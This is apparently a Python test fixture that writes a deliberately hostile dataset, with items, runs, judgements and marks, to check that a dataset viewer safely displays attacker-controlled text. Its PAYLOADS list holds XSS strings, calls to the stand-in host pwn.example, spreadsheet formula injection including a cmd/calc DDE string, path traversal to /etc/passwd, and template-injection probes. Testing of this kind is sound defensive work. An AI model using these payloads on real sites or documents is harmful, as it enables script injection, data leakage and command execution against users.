"""A set in which every text that a page can show is hostile, written as an attacker would: past our own checks.

Every payload holds the word ``pwn`` where it would do harm, so that a test finds it wherever it went. Fields of which
there are many take one payload each; fields of which there is one take all of them in a row.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any, Final, NamedTuple

import polars as pl
import yaml

from dfar_toolkit.files.flags_log import FlagsLog, Mark
from dfar_toolkit.files.items import FORMAT, FORMAT_VERSION, file_facts, write_json, write_tables
from dfar_toolkit.files.outputs import outputs_of
from dfar_toolkit.files.slices_log import SavedSlice, SlicesLog
from dfar_toolkit.journeys.judge_session import JudgingRound
from dfar_toolkit.tables import conform

AT: Final = "http://pwn.example"  # nobody is ever to ask there
PAYLOADS: Final = (
    "<script>window.pwned=1</script>",
    f"<script src={AT}/s.js></script>",
    '<img src=x onerror="window.pwned=2">',
    f'<img src="{AT}/a.png" srcset="{AT}/b.png 2x">',
    "<svg onload=window.pwned=3><circle r=9></svg>",
    '<svg><script href="data:text/javascript,window.pwned=4"/></svg>',
    '<iframe srcdoc="<script>parent.pwned=5</script>"></iframe>',
    '<iframe src="javascript:parent.pwned=6"></iframe>',
    '<a href="javascript:window.pwned=7">pwn</a>',
    '<a href="data:text/html,<script>opener.pwned=8</script>">pwn</a>',
    f'<a href="//pwn.example" class="d-go" data-key="n" ping="{AT}/ping">pwn</a>',
    f'<form action="{AT}/f"><input autofocus onfocus=window.pwned=9 name=pwn><button>Send</button></form>',
    f'<style>@import "{AT}/a.css"; * {{ display: none }}</style>',
    f'<link rel=stylesheet href="{AT}/b.css"><link rel=prefetch href="{AT}/c">',
    f'<meta http-equiv="refresh" content="0;url={AT}/">',
    f'<base href="{AT}/">',
    f'<object data="{AT}/o"><embed src="{AT}/e"></object>',
    f'<video src="{AT}/v.mp4" poster="{AT}/v.png" autoplay onerror=window.pwned=10></video>',
    f'<div style="position:fixed;inset:0;background:url({AT}/bg.png)">pwn</div>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=11&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=12>">',
    "<details open ontoggle=window.pwned=13>pwn<marquee onstart=window.pwned=14>",
    '" onmouseover="window.pwned=15" x="',
    f"' style='background:url({AT}/q.png)' pwn='",
    '"><img src=x onerror=window.pwned=16>',
    "</style><script>window.pwned=17</script>",
    "</script><script>window.pwned=18</script>",
    "--><img src=x onerror=window.pwned=19><!--",
    "]]><img src=x onerror=window.pwned=20>",
    "&lt;b&gt;pwn&lt;/b&gt; &amp;lt;i&amp;gt; &#x3c;u&#x3e; &nbsp;&copy",
    f"![pwn]({AT}/m.png) ![r][pwn]",
    f"[pwn](javascript:window.pwned=21) <{AT}> {AT}/auto www.pwn.example pwn@pwn.example",
    f"# pwn\n\n> pwn\n\n- pwn\n\n| pwn | b |\n|---|---|\n| ![c]({AT}/t.png) | d |",
    f"**pwn** _pwn_ ~~pwn~~ `pwn` $\\href{{{AT}}}{{x}}$ $$\\pwn$$",
    ":red[pwn] :material/home: :smile: :blue-badge[pwn] :rainbow[pwn]",
    "\u202eexe.pwn\u202c \u202dpwn",
    "\u2066pwn\u2069 \u2067pwn \u2068pwn \u202bpwn",
    "p\u200bw\u200dn \ufeffpwn\u00ad pwn\u2028pwn\u2029\u0085",
    "%00pwn \\x00 \\u0000 &#0; \x01\x1b[31mpwn\x7f",
    f'=HYPERLINK("{AT}","pwn")',
    "=cmd|' /C calc'!A0 pwn",
    "+1+pwn",
    "@SUM(pwn)",
    "-2+3+pwn",
    "{{7*7}}{{pwn}}{% raw %}{# pwn #}${7*7}<%= 7*7 %>#{7*7}",
    "{pwn!r} {0.__class__} %(pwn)s %s %n {} {config}",
    "../../etc/passwd%00pwn",
    "..\\..\\pwn C:\\pwn\\nul",
    "a=pwn&id=1#frag?x=%26+%2B ;pwn%zz",
    "pwn:run\\:0|pwn..1,2;'pwn'",
    "javascript:window.pwned=22",
    f"url({AT}/u.png); }} * {{ background: url({AT}/w.png) }} pwn",
    "  pwn\n\n\tpwn  ",
    "p" + "\u0336" * 40 + "wn pwn",
    "ש-pwn-عربي 😀\u200d🏳",
    "W" * 1200 + "pwn",
    "nul\x00pwn",
)  # fmt: skip
N: Final = len(PAYLOADS)
ALL: Final = " ".join(PAYLOADS)
LINE: Final = "long pwn " * 116_509 + "<img src=x onerror=window.pwned=99>"  # a line of a megabyte
# A few names that hold all payloads between them, each beginning with one that would do harm at a beginning.
NAMES: Final = tuple(" ".join(PAYLOADS[at::6]) for at in range(6))
LONG_ITEM: Final = "the megabyte pwn"
SOURCE_COLUMNS: Final = 8  # bands that make groups of raters
STEM: Final = "run &amp; <b>pwn<|b> %26#?;'\" \u202epwn"  # the name of a file


class Hostile(NamedTuple):
    """Where the set is, and what the viewer is started with."""

    items: Path
    runs: tuple[Path, ...]
    judgements: Path
    marks: Path
    round: Path

    def argv(self, *, judged: bool = True) -> list[str | Path]:
        """To look at all of it, and to write marks."""
        given = ["--judgements", self.judgements] if judged else []
        return [*given, "--marks", self.marks, "--", self.items, *self.runs]

    def to_judge(self) -> list[str | Path]:
        """To judge its reasons."""
        return ["--judge", self.round, "--", self.items, self.runs[0]]


def payload(at: int) -> str:
    """The payloads in turn."""
    return PAYLOADS[at % N]


def item_id(at: int) -> str:
    """Of the item whose statement is the payload at this place."""
    return f"{PAYLOADS[at]} #{at}" if at < N else LONG_ITEM


def write_hostile_set(root: Path, *, options: Sequence[str] = PAYLOADS, foul: bool = False) -> Hostile:
    """Write items, runs, judgements, marks and a round.

    Args:
        root: An empty folder.
        options: Of the primary question; a few where scores are wanted, whose cost grows with them.
        foul: Names of configs and splits are hostile too; then only what does not read the set whole can show it.
    """
    questions = _questions(options)
    items = _items(options, foul=foul)
    folder = root / f"items {STEM}"
    folder.mkdir(parents=True)
    long_tables = {
        "annotations": _annotations(options), "raters": _raters(), "questions": questions,
        "targets": conform(items.select("item_id", pl.lit(NAMES[0]).alias("question"), "label", "label_counts",
                                        pl.lit(3).alias("n_ratings"), pl.lit(PAYLOADS[0]).alias("method")), "targets"),
    }  # fmt: skip
    write_tables(folder, items=items, long_tables=long_tables)
    write_json(folder, "audit.json", _audit())
    write_json(folder, "agreement.json", _agreement())
    pl.DataFrame({"finding": [payload(k + 3) for k in range(N)], "item_id": [item_id(k) for k in range(N)]}) \
        .write_parquet(folder / "findings.parquet")  # fmt: skip
    write_json(folder, "manifest.json", _manifest(folder, items))
    runs = _runs(root, options, questions)
    return Hostile(folder, runs, _judgements(root, pairs=len(options) == N), _marks(root, options), root / "round")


def _questions(options: Sequence[str]) -> pl.DataFrame:
    rows = [
        {"question": NAMES[0], "kind": "nominal", "options": list(options), "wording": ALL},
        {"question": payload(22), "kind": "nominal", "options": list(options), "wording": payload(2)},
    ]
    return conform(pl.DataFrame(rows).with_columns(pl.lit(ALL).alias("note")), "questions")


def _items(options: Sequence[str], *, foul: bool) -> pl.DataFrame:
    rows = [_item(k, options, foul=foul) for k in range(N + 1)]
    frame = pl.DataFrame(rows, schema_overrides={"leak_kind": pl.String, "leak_of": pl.List(pl.String)})
    if not foul:
        return conform(frame.sort("split", "item_id", descending=[True, False]), "items")
    return frame.with_columns(pl.lit("{}").alias("extra"))


def _item(k: int, options: Sequence[str], *, foul: bool) -> dict[str, Any]:
    split = ("train", "test")[k % 2]
    foul_split = "<img src=x onerror=window.pwned=30>" if k % 2 else "' onmouseover='pwn"
    counts = [0] * len(options)
    for j in range(3):
        counts[(k + j // 2) % len(options)] += 1
    return {
        "item_id": item_id(k), "source": payload(k + 7), "split": foul_split if foul else split,
        "config": "<b>pwn&amp;" if foul and k % 3 else "default",
        "group": f"{payload(k // 2 + 11)} {k // 2}", "statement": LINE if k == N else PAYLOADS[k],
        "context": [{"field": payload(k + 1 + j), "role": payload(k + 2 + j), "text": payload(k + 5 + j)}
                    for j in range(2)],
        "option_texts": [payload(k + j) for j in range(len(options))], "label": options[k % len(options)],
        "label_counts": counts, "label_probs": [c / 3 for c in counts], "reasons": [], "text_key": f"{k:016d}",
        "leak_kind": ("exact", "near", None)[k % 3], "leak_against": payload(k + 4) if k % 3 < 2 else None,
        "leak_of": [item_id((k + 1) % N), payload(k + 6)] if k % 3 < 2 else None,
    }  # fmt: skip


def _annotations(options: Sequence[str]) -> pl.DataFrame:
    rows = [
        {
            "item_id": item_id(k), "annotator_id": payload(k + j), "question": NAMES[0],
            "rating_id": f"{payload(k)}#{k}.{j}", "value": options[(k + j // 2) % len(options)],
            "reason": LINE if k == N and not j else payload(k + 9 + j), "foil": payload(k + 2),
            "evidence": [{"field": "statement", "start": 0, "end": 3, "set": 0}] if j == 0 else None,
            "at": payload(k + 3), "comment": payload(k + 8),
        }
        for k in range(N + 1) for j in range(3)
    ]  # fmt: skip
    asked = [row | {"question": payload(22), "rating_id": f"{row['rating_id']} two"} for row in rows[::3]]
    return conform(pl.DataFrame([*rows, *asked]), "annotations")


def _raters() -> pl.DataFrame:
    """Names of columns and their values are hostile; each has few values, so that they make groups."""
    bands = {name: [payload(c * SOURCE_COLUMNS + k % SOURCE_COLUMNS) for k in range(N)]
             for c, name in enumerate(NAMES)}  # fmt: skip
    single = {payload(c * 9 + 2): [payload(k % 4 + c) for k in range(N)] for c in range(3)}
    return conform(pl.DataFrame({"annotator_id": PAYLOADS, **bands, **single}), "raters")


def _audit() -> list[dict[str, object]]:
    return [
        {"finding": PAYLOADS[k], "severity": ("fail", "warn", "info", payload(k))[k % 4], "count": 2 + k, "total": 99,
         "examples": [f"{item_id(k)}: {payload(k + 1)}"], "note": payload(k + 2)}
        for k in range(N)
    ]  # fmt: skip


def _agreement() -> list[dict[str, object]]:
    plain = {"value": 0.4, "low": 0.3, "high": 0.5, "n": 9, "n_units": 9, "confidence": 0.95}
    known = ("krippendorff_alpha", "percent_agreement", "cohen_kappa")
    return [
        {**plain, "statistic": known[k] if k < 3 else payload(k), "level": payload(k + 1), "question": payload(k + 2),
         "note": payload(k + 3), "unit": payload(k + 4), "method": payload(k + 5)}
        for k in range(N)
    ]  # fmt: skip


def _manifest(folder: Path, items: pl.DataFrame) -> dict[str, object]:
    configs: dict[str, dict[str, dict[str, object]]] = {}
    for config, split in items.select("config", "split").unique(maintain_order=True).iter_rows():
        configs.setdefault(config, {"splits": {}})["splits"][split] = {"rows": 1, "labels": {ALL: 1}, "unlabelled": 0}
    source = [{"name": name, "title": name, "licence": name, "homepage": f"javascript:{name}", "languages": [name],
               "notes": [name], "url": AT} for name in NAMES]  # fmt: skip
    return {
        "format": FORMAT, "format_version": FORMAT_VERSION, "name": ALL, "title": ALL, "licence": ALL, "homepage": ALL,
        "sources": source, "questions": [{"question": NAMES[0], "wording": ALL, "kind": ALL}], "seed": ALL,
        "tools": {ALL: ALL}, "rows": {"items": len(items)}, "configs": configs,
        "annotators": {
            "count": N, "known": True, "models": list(NAMES), "pseudonyms": True, "ratings": 3 * N, "with_reason": N,
            "bands": {name: {payload(k + at): 3 for k in range(16)} for at, name in enumerate(NAMES)},
            "ratings_per_item": {"min": 3, "median": 3, "max": 3},
        },
        "disagreement": {"items": N, "of": N}, "groups": {"count": N // 2}, "split": {"method": ALL},
        "audit": {"failed": list(NAMES), "accepted": list(NAMES)}, "content_digest": {"default": ALL},
        "files": file_facts(folder),
    }  # fmt: skip


def _runs(root: Path, options: Sequence[str], questions: pl.DataFrame) -> tuple[Path, ...]:
    """A run with everything, one whose name is that of its file, and a file that cannot be read."""
    rich = root / f"rich {STEM}"
    rich.mkdir()
    rows = [row for run in NAMES[1:3] for k in range(N + 1) for row in _rows(run, k, options)]
    frame = pl.DataFrame(rows, infer_schema_length=None)
    outputs_of(frame, rich, rich.name, questions=questions).write_parquet(rich / "outputs.parquet")
    write_json(rich, "run.json", {"format": "dfar-run", "format_version": 1, "model": ALL, "settings": {ALL: ALL}})
    plain = root / f"plain {STEM}.jsonl"
    shown = [{"item_id": item_id(k), "label": options[(k + k % 2) % len(options)], "reason": payload(k),
              "temperature": 0.5, payload(k % 3): payload(k)} for k in range(N)]  # fmt: skip
    plain.write_text("".join(json.dumps(row) + "\n" for row in shown), encoding="utf-8")
    broken = root / f"broken {STEM}.jsonl"
    broken.write_text(json.dumps({"item_id": ALL, ALL: ALL}) + "\n", encoding="utf-8")
    return rich, plain, broken


def _rows(run: str, k: int, options: Sequence[str]) -> list[dict[str, Any]]:
    """What a run says of an item: its answer, and of every kind of row that a file may hold beside it."""
    said = options[k % len(options) :] + options[: k % len(options)]
    answer = said[(k // 2 + NAMES.index(run)) % 2]
    probs = [0.6 if option == answer else 0.4 / (len(options) - 1) for option in options]
    first = {
        "run_id": run, "item_id": item_id(k), "question": NAMES[0], "sample": 0, "annotator_id": "", "method": "",
        "condition": "full", "operator": "", "k": -1, "draw": 0, "label": answer, "reason": payload(k + 3),
        "label_probs": probs, "raw": LINE if k == N else payload(k), "error": None,
        "word_scores": None, "words": None, "evidence": None, "share": None, "shares": None,
        "n_removed": None, "options": list(options), "finish": payload(k + 4), "made by": payload(k + 5),
        payload(3): payload(k),
    }  # fmt: skip
    if k % 7 == 1:
        first |= {"label": None, "label_probs": None, "error": payload(k)}
    made = [
        first, {**first, "sample": 1, "label": said[3]},
        {**first, "annotator_id": payload(k), "label": said[1]},
        {**first, "question": payload(22), "reason": payload(k + 2)},
        {**first, "condition": f"test {payload(k)}", "method": payload(k + 1), "reason": payload(k + 2)},
    ]  # fmt: skip
    if k < N and run == NAMES[1]:
        made += [row for at in (3, 4) for row in _explained(first, k, NAMES[at], said)]
    return made


def _explained(first: dict[str, Any], k: int, method: str, said: Sequence[str]) -> list[dict[str, Any]]:
    text = PAYLOADS[k]
    words = [{"field": "statement", "start": a, "end": min(a + 3, len(text))} for a in range(0, min(len(text), 12), 3)]
    words += [{"field": payload(k + 1), "start": 0, "end": 2}]
    own = {**first, "method": method, "error": None, "label": first["label"] or said[0]}
    return [
        {**own, "condition": "rationale", "word_scores": [float(n % 3) - 0.5 for n in range(len(words))],
         "words": words, "evidence": words[:1] and [{**words[0], "set": 0}]},
        {**own, "condition": "without_top", "operator": payload(5), "k": 1, "share": 0.5, "shares": [0.5],
         "n_removed": 1, "label": said[1]},
        {**own, "condition": "only_top", "operator": payload(5), "k": 1, "share": 0.5, "shares": [0.5],
         "n_removed": 1, "label": said[2]},
    ]  # fmt: skip


def _judgements(root: Path, *, pairs: bool) -> Path:
    """Verdicts on reasons of a run and of people; pairs of reasons too, which cannot be scored together with these."""
    rows = [
        {"judge_id": payload(k + j), "run_id": run, "item_id": item_id(k), "output_id": output,
         "question": payload(31),
         "other_output_id": payload(k + 3) if pairs and j == 2 else "",
         "value": ("good", "bad", payload(k + 4) if pairs else "bad")[j],
         "error_type": payload(k + 5), "note": payload(k + 6)}
        for k in range(N) for j in range(3)
        for run, output in ((NAMES[1], f"{NAMES[1]}/{item_id(k)}/{NAMES[0]}/0"),
                            ("human", f"human/{payload(k)}#{k}.0"))
    ]  # fmt: skip
    path = root / f"judged {STEM}.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return path


def _marks(root: Path, options: Sequence[str]) -> Path:
    folder = root / f"marks {STEM}"
    for k in range(N):
        log = FlagsLog(folder, payload(k + 1)[:150])
        output = f"human/{payload(k)}#{k}.0" if k % 2 else payload(k + 5)
        log.add(Mark(item_id(k), "" if k % 3 else output, flag=payload(k + 2), comment=payload(k)))
        if k % 3 == 0:
            query: dict[str, Sequence[str]] = {"gold": [options[k % len(options)]], "source": [payload(k + 8)]}
            SlicesLog(folder, payload(k)[:150]).add(SavedSlice(payload(k)[:190], query))
    return folder


def write_round(hostile: Hostile, **said: Any) -> JudgingRound:
    """A round on its reasons, whose protocol is hostile too."""
    hostile.round.mkdir(exist_ok=True)
    known = {"statement": ALL, "label": ALL, "reason": ALL}
    protocol = {
        "question": ALL, "instructions": ALL, "scale": [NAMES[3], NAMES[4]], "human_per_item": 1,
        "error_types": [p for p in PAYLOADS if ";" not in p and p.strip() == p],
        "shown": ["statement", "context", "label", "reason", "gold", "human_reasons"], "overlap": "full",
        "training": [{**known, "value": NAMES[3], "why": ALL}], **said,
    }  # fmt: skip
    (hostile.round / "protocol.yaml").write_text(yaml.safe_dump(protocol), encoding="utf-8")
    return JudgingRound.open(hostile.round, hostile.runs[:1], items=hostile.items)
